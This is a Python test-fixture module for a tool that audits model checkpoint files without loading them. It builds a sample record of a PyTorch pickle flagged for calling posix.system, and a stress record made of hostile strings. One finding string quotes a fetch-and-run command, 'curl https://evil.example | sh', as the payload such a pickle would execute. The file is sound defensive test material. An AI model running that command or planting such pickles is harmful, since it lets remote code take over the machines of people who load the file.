"""Records of an inspection for tests: of a hostile file, and with hostile texts."""

from __future__ import annotations

from auditor.inspecting.record import Ability, Content, Fit, Inspection, Wanted
from tests.test_report import HOSTILE

REFUSED = Ability(works=False, why="auditor opens no file that would run code or deceives.")


def sample_inspection() -> Inspection:
    """Of a checkpoint that calls a program."""
    wanted = ("collections.OrderedDict", "posix.system", "torch._utils._rebuild_tensor_v2")
    return Inspection(
        auditor="0.1.0",
        name="downloaded.pth",
        kind="PyTorch zip",
        bytes=102_400,
        sha256="0123456789abcdef" * 4,
        content=Content(
            what="A pickle that was not loaded.",
            tensors=62,
            parameters=269_722,
            wanted=tuple(Wanted(name=name, allowed=name != "posix.system") for name in wanted),
            findings=("loading it calls posix.system('curl https://evil.example | sh')",),
        ),
        scan=REFUSED,
        purify=REFUSED,
    )


def hostile_inspection() -> Inspection:
    """Every text of a record is hostile, and there are too many of all."""
    texts = tuple(text.replace("\udc80", "") for text in HOSTILE)
    whole = "".join(texts)
    return Inspection(
        auditor=whole,
        name=whole,
        kind=whole,
        bytes=1,
        sha256="0" * 64,
        content=Content(
            what=whole,
            entries=texts * 100,
            tensors=2**63 - 1,
            parameters=0,
            dtypes={whole: 3},
            wanted=tuple(Wanted(name=text, allowed=False) for text in texts * 100),
            findings=texts * 100,
            fits=(Fit(arch=whole, title=whole, score=0.5, exact=False, differences=texts),) * 50,
        ),
        scan=Ability(works=False, why=whole),
        purify=Ability(works=False, why=whole),
    )
